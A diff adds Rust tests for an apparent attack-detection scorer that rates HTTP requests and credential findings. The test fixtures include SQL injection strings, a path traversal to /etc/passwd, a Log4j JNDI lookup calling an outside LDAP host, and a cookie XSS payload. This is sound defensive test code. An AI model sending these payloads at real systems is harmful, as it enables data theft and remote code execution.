@@ -1,0 +1,114 @@
+use serde_json::json;
+
+use super::{Evidence, Models, Score, Scorer, Source, fusion, input::Described};
+use crate::{
+    finding::{Finding, FindingId, Severity},
+    time::Time,
+    token::TokenReport,
+};
+
+fn scorer() -> Scorer {
+    Scorer::new(Models::built_in().unwrap())
+}
+
+fn score(value: &serde_json::Value, findings: &[Finding]) -> Score {
+    let described = Described::from_json(value, Time::from_unix_secs(1_700_000_000)).unwrap();
+    let evidence = findings.iter().map(|finding| Evidence { finding, of_credentials: true });
+    scorer().score(&described.request, &TokenReport::default(), evidence)
+}
+
+#[test]
+fn an_attack_is_found_wherever_it_stands_and_its_place_is_told() {
+    for (request, place, id) in [
+        (json!({"path": "/items?id=1%27%20or%20%271%27=%271"}), "the query", "sqli"),
+        (json!({"path": "/static/..%2f..%2f..%2fetc/passwd"}), "the path", "traversal"),
+        (
+            json!({"path": "/", "headers": {"X-Api": "${jndi:ldap://x.example/a}"}}),
+            "header x-api",
+            "log4j",
+        ),
+        (
+            json!({"path": "/", "headers": {"Cookie": "a=b; c=<script>alert(1)</script>"}}),
+            "a cookie",
+            "xss",
+        ),
+        (
+            json!({"path": "/", "method": "POST", "body": {"user": "x' union select 1,2,3-- -"}}),
+            "the body",
+            "sqli",
+        ),
+    ] {
+        let score = score(&request, &[]);
+        assert!(score.suspected && score.value >= 87, "{request} {score:?}");
+        let first = &score.reasons()[0];
+        assert_eq!((first.source, first.score), (Source::Payload, score.value));
+        assert!(first.detail.starts_with(&format!("{id} in {place}: ")), "{}", first.detail);
+    }
+}
+
+#[test]
+fn nothing_is_said_of_a_usual_request() {
+    let score = score(
+        &json!({
+            "path": "/api/orders/17?sort=-created&q=blue+chairs",
+            "headers": {
+                "Host": "shop.example",
+                "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+                "Cookie": "sid=s%3AqX9vT2mL0aKc4wZ7; theme=dark",
+            },
+        }),
+        &[],
+    );
+    assert_eq!((score.value, score.suspected, score.reasons().len()), (0, false, 0));
+}
+
+#[test]
+fn what_is_proven_is_100_and_nothing_else_is() {
+    let request = json!({"path": "/?id=1' union select password from users-- -"});
+    let grave = |severity| Finding { severity, ..Finding::new(FindingId::TokenExpired, "") };
+    for severity in Severity::ALL {
+        let score = score(&request, &[grave(severity)]);
+        assert!(score.value <= fusion::UNPROVEN);
+    }
+    let forged = Finding::new(FindingId::AlgNone, "alg is none");
+    let proven = score(&json!({"path": "/"}), &[forged.clone()]);
+    assert_eq!(proven.value, 100);
+    assert_eq!(proven.reasons()[0].id, "alg-none");
+    assert!(!proven.suspected, "no model had a part in it");
+    // Of a token that the request is about, nothing is proven against the sender.
+    let mut about = Score::default();
+    about.weigh([Evidence { finding: &forged, of_credentials: false }].into_iter());
+    assert_eq!(about.value, 99);
+}
+
+/// Against the definition, over all severities and many probabilities: one source alone is its
+/// probability, two are more than either, and more evidence never lowers a score.
+#[test]
+fn fusion_is_as_documented() {
+    for severity in Severity::ALL {
+        let finding = Finding { severity, ..Finding::new(FindingId::TokenInQuery, "") };
+        let alone = fusion::Weighed::default().add_finding(&finding, true);
+        let mut last = 0;
+        for step in 0..=100_u8 {
+            let payload = f32::from(step) / 100.0;
+            assert_eq!(fusion::Weighed::new(payload).score(), step.min(99));
+            let mut both = fusion::Weighed::new(payload);
+            both.add_finding(&finding, true);
+            let score = both.score();
+            assert!(score >= alone && score >= step.min(99) && score >= last);
+            last = score;
+        }
+    }
+}
+
+#[test]
+fn an_answer_changes_what_the_findings_weigh() {
+    let finding = |severity| Finding { severity, ..Finding::new(FindingId::TokenExpired, "") };
+    let request = json!({"path": "/?q=1' or 1=1--"});
+    let mut changed = score(&request, &[finding(Severity::High)]);
+    assert_eq!(changed, score(&request, &[finding(Severity::High)]));
+    let low = finding(Severity::Low);
+    changed.weigh([Evidence { finding: &low, of_credentials: true }].into_iter());
+    assert_eq!(changed, score(&request, &[low]));
+}
